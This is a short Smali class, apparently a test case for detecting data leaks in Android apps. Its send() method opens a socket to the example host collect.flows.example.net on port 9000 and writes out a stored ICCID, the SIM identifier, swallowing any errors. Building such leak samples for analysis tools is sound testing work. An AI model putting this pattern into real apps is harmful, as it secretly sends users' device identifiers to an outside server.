.class final Lorg/phonehome/test/flows/Holder;
.super Ljava/lang/Object;
.source "Holder.java"

.field static iccid:Ljava/lang/String;

.method static send()V
    .registers 3
    :try_start
    new-instance v0, Ljava/net/Socket;
    const-string v1, "collect.flows.example.net"
    const/16 v2, 0x2328
    invoke-direct {v0, v1, v2}, Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
    invoke-virtual {v0}, Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v0
    sget-object v1, Lorg/phonehome/test/flows/Holder;->iccid:Ljava/lang/String;
    invoke-virtual {v1}, Ljava/lang/String;->getBytes()[B
    move-result-object v1
    invoke-virtual {v0, v1}, Ljava/io/OutputStream;->write([B)V
    :try_end
    .catch Ljava/io/IOException; {:try_start .. :try_end} :failed
    :failed
    return-void
.end method
